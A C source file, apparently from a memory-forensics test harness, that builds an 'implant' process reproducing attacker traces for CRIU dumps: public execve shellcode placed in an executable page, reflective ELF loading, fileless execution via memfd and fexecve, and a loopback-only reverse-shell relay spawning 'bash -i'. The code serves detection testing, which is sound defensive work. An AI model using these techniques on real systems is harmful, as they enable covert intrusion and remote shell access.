/*
 * implant.c - what the "intrusion" scenario runs: the traces an attacker leaves in a process's
 * memory, made on purpose and then left waiting for CRIU.
 *
 *   implant MODE NAME READY_FD [ARG]
 *
 * Every mode names the main thread NAME (prctl), does its work, writes
 * "<pid> <NAME>\t<what it made>" to READY_FD, closes it and waits forever (pause).
 *
 *   idle        nothing more (a process whose identity is the point: run from a deleted file,
 *               with LD_PRELOAD, ...)
 *   shellcode   mmap one anonymous page PROT_READ|PROT_WRITE|PROT_EXEC and copy shellcode into
 *               it (x86-64 execve("/bin//sh"), never run); reports "shellcode ADDR"
 *   reflective  mmap an anonymous area read-write, copy the ELF file ARG into it (the loader's
 *               first step of reflective loading), then mprotect it PROT_READ|PROT_EXEC; reports
 *               "reflective ADDR SIZE"
 *   fileless    copy this program into a memfd named "cfw-payload" and fexecve it in mode idle
 *               under the same NAME and READY_FD: the process then runs from the memfd
 *   relay       connect to 127.0.0.1:ARG over TCP, start "bash -i" with its stdin, stdout and
 *               stderr on pipes whose other ends this process keeps (a reverse shell through a
 *               relay, as "nc ... | bash -i | ..." does); reports "relay BASHPID"
 *
 * Built by intrusion.py with gcc; tests never run it.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <unistd.h>

/* execve("/bin//sh", NULL, NULL), 27 bytes, a classic public x86-64 shellcode. */
static const unsigned char shellcode[] =
    "\x31\xc0\x48\xbb\xd1\x9d\x96\x91\xd0\x8c\x97\xff\x48\xf7\xdb\x53\x54\x5f\x99\x52\x57\x54\x5e"
    "\xb0\x3b\x0f\x05";

static void die(const char *what) {
    perror(what);
    exit(1);
}

static void ready(int fd, const char *name, const char *what) {
    dprintf(fd, "%d %s\t%s\n", getpid(), name, what);
    close(fd);
}

static void wait_forever(void) {
    for (;;)
        pause();
}

static void *map_file_copy(const char *path, size_t *size) {
    int fd = open(path, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) < 0)
        die(path);
    *size = (st.st_size + 4095) & ~(size_t)4095;
    unsigned char *area = mmap(NULL, *size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (area == MAP_FAILED)
        die("mmap");
    size_t got = 0;
    while (got < (size_t)st.st_size) {
        ssize_t n = read(fd, area + got, st.st_size - got);
        if (n <= 0)
            die("read");
        got += n;
    }
    close(fd);
    return area;
}

int main(int argc, char **argv) {
    if (argc < 4) {
        fprintf(stderr, "usage: implant MODE NAME READY_FD [ARG]\n");
        return 2;
    }
    const char *mode = argv[1], *name = argv[2];
    int ready_fd = atoi(argv[3]);
    char what[256];
    prctl(PR_SET_NAME, name);

    if (!strcmp(mode, "idle")) {
        snprintf(what, sizeof what, "idle");
    } else if (!strcmp(mode, "shellcode")) {
        unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED)
            die("mmap");
        memcpy(page, shellcode, sizeof shellcode - 1);
        snprintf(what, sizeof what, "shellcode %p", (void *)page);
    } else if (!strcmp(mode, "reflective")) {
        size_t size;
        void *area = map_file_copy(argc > 4 ? argv[4] : "/proc/self/exe", &size);
        if (mprotect(area, size, PROT_READ | PROT_EXEC) < 0)
            die("mprotect");
        snprintf(what, sizeof what, "reflective %p %zu", area, size);
    } else if (!strcmp(mode, "fileless")) {
        size_t size;
        void *image = map_file_copy("/proc/self/exe", &size);
        int fd = memfd_create("cfw-payload", MFD_CLOEXEC);
        struct stat st;
        if (fd < 0 || stat("/proc/self/exe", &st) < 0)
            die("memfd_create");
        if (write(fd, image, st.st_size) != st.st_size)
            die("write");
        char *args[] = {(char *)name, "idle", (char *)name, argv[3], NULL};
        extern char **environ;
        fexecve(fd, args, environ);
        die("fexecve");
    } else if (!strcmp(mode, "relay")) {
        int sk = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in addr = {.sin_family = AF_INET, .sin_port = htons(atoi(argc > 4 ? argv[4] : "0"))};
        addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (sk < 0 || connect(sk, (struct sockaddr *)&addr, sizeof addr) < 0)
            die("connect");
        int in[2], out[2];
        if (pipe(in) < 0 || pipe(out) < 0)
            die("pipe");
        pid_t child = fork();
        if (child == 0) {
            close(sk);
            close(ready_fd);
            dup2(in[0], 0);
            dup2(out[1], 1);
            dup2(out[1], 2);
            close(in[0]), close(in[1]), close(out[0]), close(out[1]);
            execl("/bin/bash", "bash", "-i", (char *)NULL);
            die("exec bash");
        }
        close(in[0]);
        close(out[1]);
        /* Wait for the prompt, so that bash sits in read(0) when the dump comes. */
        char buf[512];
        size_t seen = 0;
        while (seen < 2) {
            ssize_t n = read(out[0], buf, sizeof buf);
            if (n <= 0)
                die("read bash");
            if (memchr(buf, '#', n) || memchr(buf, '$', n))
                seen = 2;
        }
        snprintf(what, sizeof what, "relay %d", (int)child);
    } else {
        fprintf(stderr, "unknown mode %s\n", mode);
        return 2;
    }
    ready(ready_fd, name, what);
    wait_forever();
}
